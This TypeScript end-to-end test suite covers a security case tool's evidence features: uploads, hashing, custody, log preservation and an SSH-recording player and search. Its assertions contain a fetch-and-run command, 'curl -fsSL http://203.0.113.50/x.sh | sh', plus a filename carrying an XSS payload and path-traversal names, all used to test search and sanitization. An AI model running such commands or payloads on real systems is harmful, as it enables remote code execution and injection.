// Case evidence over HTTP and in Chromium: a multipart upload of a Tailscale SSH recording and a
// raw upload, both hashed; the bad-input matrix (413 with the limit, 415, 400 for empty files and
// malformed recordings, 404 for unknown and invisible cases, hostile names made safe); download
// with the hash header and custody; then the evidence tab lists the items with their SHA-256,
// the recording's player renders, the search finds a command typed in the recording, and an
// upload through the page's form arrives.
import { createHash, randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import http from "node:http";
import path from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { launchBrowser, screenshotPath } from "../support/browser";
import { signedInPage } from "../support/browser-session";

process.env.DATABASE_URL = inject("databaseUrl");
const base = inject("baseUrl");
const { makeUser } = await import("../support/db-helpers");
const { apiTokenFor } = await import("../support/api-client");
const { ingestStream } = await import("@/lib/ingest/ingest");
const { flushDerived } = await import("@/lib/ingest/derived");
const { closeIngestPool } = await import("@/lib/ingest/pg-pool");
const { findOrCreateSource } = await import("@/lib/ingest/sources");
const { auditRecord, flowRecord } = await import("../support/tailscale-records");

const FIXTURES = path.resolve(__dirname, "..", "fixtures", "evidence");
const cast = readFileSync(path.join(FIXTURES, "ssh-session.cast"));
const sha = (b: Buffer | string) => createHash("sha256").update(b).digest("hex");
const run = randomBytes(4).toString("hex");
const POLL = { timeout: 20_000, interval: 250 };
const tokens: Record<string, string> = {};
let security: Awaited<ReturnType<typeof makeUser>>;
let reference: string;
let sealed: string;
let browser: Browser;

type Json = Record<string, unknown> & { error?: { code: string; message: string } };
async function call(who: string, urlPath: string, init: RequestInit = {}) {
  const response = await fetch(`${base}${urlPath}`, { ...init, headers: { authorization: `Bearer ${tokens[who]}`, ...(init.headers as Record<string, string>) } });
  const buffer = Buffer.from(await response.arrayBuffer());
  let json: Json = {};
  try {
    json = JSON.parse(buffer.toString("utf8")) as Json;
  } catch {
    // bytes, not JSON
  }
  return { status: response.status, body: json, bytes: buffer, headers: response.headers };
}
function multipart(who: string, ref: string, name: string, content: Buffer | string, type = "application/octet-stream", description?: string) {
  const form = new FormData();
  if (description) form.append("description", description);
  form.append("file", new Blob([new Uint8Array(Buffer.from(content))], { type }), name);
  return call(who, `/api/v1/cases/${ref}/evidence`, { method: "POST", body: form });
}

beforeAll(async () => {
  for (const [who, roles] of [["security", ["SECURITY"]], ["coo", ["COO"]], ["employee", []]] as const) {
    const user = await makeUser([...roles], "correct horse battery staple", { ready: true });
    if (who === "security") security = user;
    tokens[who] = await apiTokenFor(user, "evidence test");
  }
  const open = (who: string, body: object) => call(who, "/api/v1/cases", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
  reference = (await open("security", { title: `Root shell on db-1 ${run}`, severity: "CRITICAL" })).body.reference as string;
  sealed = (await open("coo", { title: `Sealed ${run}`, severity: "HIGH", visibility: "COO_ONLY" })).body.reference as string;
  expect(reference).toMatch(/^CASE-/);
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
  await closeIngestPool();
});

describe("the evidence API", () => {
  it("takes a recording as multipart and a raw upload, hashing both; the download carries the hash and is recorded", async () => {
    const added = await multipart("security", reference, "ssh-session.cast", cast, "application/octet-stream", "Recorded by tsrecorder on db-1");
    expect(added.status).toBe(201);
    expect(added.body.evidence).toMatchObject({ name: "ssh-session.cast", kind: "CAST", sha256: sha(cast), size: cast.length });
    const id = (added.body.evidence as { id: string }).id;

    const raw = await call("security", `/api/v1/cases/${reference}/evidence`, { method: "POST", headers: { "content-type": "text/plain", "x-file-name": encodeURIComponent("../../étc/auth.log") }, body: `Nov 21 sshd: Accepted publickey for root ${run}\n` });
    expect(raw.status).toBe(201);
    expect(raw.body.evidence).toMatchObject({ name: "auth.log", kind: "FILE", contentType: "text/plain" });

    const download = await call("coo", `/api/v1/cases/${reference}/evidence/${id}`);
    expect(download.status).toBe(200);
    expect(download.bytes.equals(cast)).toBe(true);
    expect(download.headers.get("x-evidence-sha256")).toBe(sha(cast));
    expect(download.headers.get("content-disposition")).toMatch(/^attachment; filename="ssh-session.cast"/);

    const listed = await call("security", `/api/v1/cases/${reference}/evidence?q=x.sh`);
    const items = listed.body.items as { id: string; custody: { action: string }[]; matches: { at: number | null; line: string }[] }[];
    expect(items.map((i) => i.id)).toEqual([id]);
    expect(items[0]!.custody.map((c) => c.action)).toEqual(["added", "downloaded"]);
    expect(items[0]!.matches[0]).toMatchObject({ at: 3.125, line: expect.stringContaining("curl -fsSL http://203.0.113.50/x.sh") });

    // Larger than the proxy would pass whole (10 MB): the upload route is streamed past it.
    const large = randomBytes(12 * 1024 * 1024);
    const big = await call("security", `/api/v1/cases/${reference}/evidence`, { method: "POST", headers: { "content-type": "application/octet-stream", "x-file-name": "memory-dump.bin" }, body: large });
    expect(big.status).toBe(201);
    expect(big.body.evidence).toMatchObject({ size: large.length, sha256: sha(large) });

    const verified = await call("security", `/api/v1/cases/${reference}/evidence/${id}/verify`, { method: "POST" });
    expect(verified).toMatchObject({ status: 200, body: { ok: true, expected: sha(cast) } });
  });

  it("answers bad input with clear 4xx and stores nothing", async () => {
    const before = ((await call("security", `/api/v1/cases/${reference}/evidence`)).body.items as unknown[]).length;

    const empty = await multipart("security", reference, "empty.txt", "");
    expect(empty).toMatchObject({ status: 400, body: { error: { message: expect.stringMatching(/empty/) } } });

    const malformed = await multipart("security", reference, "session.cast", readFileSync(path.join(FIXTURES, "bad-json-line.cast")));
    expect(malformed).toMatchObject({ status: 400, body: { error: { message: expect.stringContaining("Line 5 of the recording") } } });
    const wrongVersion = await multipart("security", reference, "v1.cast", readFileSync(path.join(FIXTURES, "wrong-version.cast")));
    expect(wrongVersion).toMatchObject({ status: 400, body: { error: { message: expect.stringContaining("only version 2") } } });

    const json = await call("security", `/api/v1/cases/${reference}/evidence`, { method: "POST", headers: { "content-type": "application/json" }, body: "{}" });
    expect(json.status).toBe(415);
    const png = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64");
    expect((await multipart("security", reference, "invoice.pdf", png, "application/pdf")).status).toBe(415);
    const noFile = new FormData();
    noFile.append("description", "no file here");
    expect((await call("security", `/api/v1/cases/${reference}/evidence`, { method: "POST", body: noFile })).status).toBe(400);
    const broken = await call("security", `/api/v1/cases/${reference}/evidence`, { method: "POST", headers: { "content-type": "multipart/form-data; boundary=xyz" }, body: "--xyz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a\"\r\n\r\nabc" });
    expect(broken.status).toBeGreaterThanOrEqual(400);
    expect(broken.status).toBeLessThan(500);

    // Announced larger than the limit: refused at once, with the limit in the message.
    const tooLarge = await new Promise<{ status: number; body: string }>((resolve, reject) => {
      const request = http.request(`${base}/api/v1/cases/${reference}/evidence`, { method: "POST", headers: { authorization: `Bearer ${tokens.security}`, "content-type": "application/octet-stream", "x-file-name": "huge.bin", "content-length": String(200 * 1024 * 1024) } }, (response) => {
        let body = "";
        response.on("data", (c: Buffer) => (body += c.toString()));
        response.on("end", () => resolve({ status: response.statusCode ?? 0, body }));
      });
      request.on("error", reject);
      request.write(Buffer.alloc(1024));
    });
    expect(tooLarge.status).toBe(413);
    expect(tooLarge.body).toContain("100 MB");

    expect((await multipart("security", "CASE-9999-99999", "a.txt", "x")).status).toBe(404);
    expect((await multipart("security", sealed, "a.txt", "x")).status).toBe(404);
    expect((await call("security", `/api/v1/cases/${sealed}/evidence`)).status).toBe(404);
    expect((await call("security", `/api/v1/cases/${reference}/evidence/nope`)).status).toBe(404);
    expect((await call("employee", `/api/v1/cases/${reference}/evidence`)).status).toBe(403);

    const hostile = await multipart("security", reference, "..\\..\\<img src=x onerror=alert(1)>\u202Etxt.exe", "hostile name");
    expect(hostile.status).toBe(201);
    const hostileName = (hostile.body.evidence as { name: string }).name;
    expect(hostileName).toBe("_img src=x onerror=alert(1)_txt.exe");

    const after = ((await call("security", `/api/v1/cases/${reference}/evidence`)).body.items as unknown[]).length;
    expect(after).toBe(before + 1);
    const doc = await (await fetch(`${base}/api/v1/openapi.json`)).json();
    expect(Object.keys(doc.paths["/api/v1/cases/{id}/evidence"])).toEqual(["get", "post"]);
    expect(doc.paths["/api/v1/cases/{id}/evidence/{evidenceId}"].get.responses["200"].headers).toHaveProperty("X-Evidence-SHA256");
  });
});

describe("preserving logs over the API", () => {
  it("copies a device's records into the case with a manifest, and refuses bad requests clearly", async () => {
    const node = `nE2e${run}CNTRL`;
    const at = Date.now() - 30 * 60_000;
    const sourceId = (await findOrCreateSource(`evidence-e2e-${run}`, "IMPORT")).id;
    const flow = flowRecord({ node, peer: `nPeer${run}CNTRL`, at, entries: 2, seed: 3 });
    // An address no other test uses: flows are chosen by reporting node or by the device's addresses.
    const address = `100.${100 + (parseInt(run.slice(0, 2), 16) % 27)}.${parseInt(run.slice(2, 4), 16)}.${1 + (parseInt(run.slice(4, 6), 16) % 250)}`;
    flow.srcNode.name = `build-${run}.example.ts.net`;
    flow.srcNode.addresses = [address];
    for (const entry of flow.virtualTraffic) entry.src = entry.src.replace("100.64.0.1", address);
    const records = [auditRecord({ action: "UPDATE", target: { id: node, name: `build-${run}.example.ts.net`, type: "NODE", property: "EXIT_NODE" } }, at), flow];
    await ingestStream([Buffer.from(records.map((r) => JSON.stringify(r)).join("\n"))], { sourceId });
    await flushDerived();
    const preserve = (body: unknown, type = "application/json") => call("security", `/api/v1/cases/${reference}/evidence/preserve-logs`, { method: "POST", headers: { "content-type": type }, body: typeof body === "string" ? body : JSON.stringify(body) });
    const range = { from: new Date(at - 60_000).toISOString(), to: new Date(at + 60_000).toISOString() };

    expect((await preserve("{nope")).status).toBe(400);
    expect((await preserve("from=x", "application/x-www-form-urlencoded")).status).toBe(415);
    expect((await preserve({ ...range, devices: [] })).status).toBe(422);
    expect((await preserve({ ...range, devices: [`ghost-${run}`] })).body.error?.message).toContain(`ghost-${run}`);
    expect((await preserve({ from: range.to, to: range.from, devices: [node] })).status).toBe(422);
    expect((await preserve({ ...range, devices: [node], include: ["dns"] })).status).toBe(422);
    expect((await call("security", `/api/v1/cases/${sealed}/evidence/preserve-logs`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ ...range, devices: [node] }) })).status).toBe(404);

    const done = await preserve({ ...range, devices: [`build-${run}`] });
    expect(done.status).toBe(201);
    expect(done.body.evidence).toMatchObject({ kind: "LOG_EXPORT", contentType: "application/gzip" });
    const listed = (await call("security", `/api/v1/cases/${reference}/evidence`)).body.items as { kind: string; meta: { manifest: { count: number; audit: number; flow: number } } }[];
    expect(listed.find((i) => i.kind === "LOG_EXPORT")?.meta.manifest).toMatchObject({ count: 4, audit: 1, flow: 3 });
  });
});

describe("the evidence tab", () => {
  let page: Page;
  it("lists the evidence with its SHA-256, plays the recording and finds a command in it", async () => {
    page = await signedInPage(browser, base, security);
    await page.goto(`${base}/cases/${reference}/evidence`);
    await expect.poll(() => page.getByRole("heading", { name: /Evidence/ }).first().isVisible(), POLL).toBe(true);
    await expect.poll(() => page.locator(`[data-sha256="${sha(cast)}"]`).isVisible(), POLL).toBe(true);
    // The player is the package's own element, started in the page.
    await expect.poll(() => page.locator(`[data-evidence-player] .ap-wrapper, [data-evidence-player] .ap-player`).count(), POLL).toBeGreaterThan(0);
    await expect.poll(() => page.getByText("4 records (1 audit event, 3 flow records)", { exact: false }).isVisible(), POLL).toBe(true);
    await page.screenshot({ path: screenshotPath("case-evidence"), fullPage: true });

    await page.getByLabel("Search evidence").fill("x.sh");
    await page.getByRole("button", { name: "Search" }).click();
    await page.waitForURL(/q=x.sh/);
    const match = page.getByRole("list", { name: "Matches in ssh-session.cast" });
    await expect.poll(() => match.textContent(), POLL).toContain("curl -fsSL http://203.0.113.50/x.sh | sh");
    await page.getByRole("button", { name: /Play the recording from 0:03.1/ }).click();
    // Seeking loads the recording into the player's terminal: the screen at 3.1 s shows the whoami typed before.
    await expect.poll(() => page.locator("[data-evidence-player]").innerText(), POLL).toContain("whoami");
    await page.screenshot({ path: screenshotPath("case-evidence-search"), fullPage: true });
  });

  it("uploads through the form with progress and shows the new item", async () => {
    await page.goto(`${base}/cases/${reference}/evidence`);
    const content = `tcpdump excerpt ${run}\n`;
    await page.locator("#evidence-file").setInputFiles({ name: `capture-${run}.txt`, mimeType: "text/plain", buffer: Buffer.from(content) });
    await page.getByRole("button", { name: "Upload evidence" }).click();
    await expect.poll(() => page.getByText(`Added capture-${run}.txt`).isVisible(), POLL).toBe(true);
    await expect.poll(() => page.locator(`[data-sha256="${sha(content)}"]`).isVisible(), POLL).toBe(true);
    const dark = await (await browser.newContext({ viewport: { width: 390, height: 844 }, colorScheme: "dark", storageState: await page.context().storageState() })).newPage();
    await dark.goto(`${base}/cases/${reference}/evidence`);
    await expect.poll(() => dark.locator(`[data-sha256="${sha(content)}"]`).isVisible(), POLL).toBe(true);
    await expect.poll(() => dark.locator("[data-evidence-player] .ap-wrapper, [data-evidence-player] .ap-player").count(), POLL).toBeGreaterThan(0);
    expect(await dark.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
    await dark.screenshot({ path: screenshotPath("case-evidence-phone-dark"), fullPage: true });
  });
});
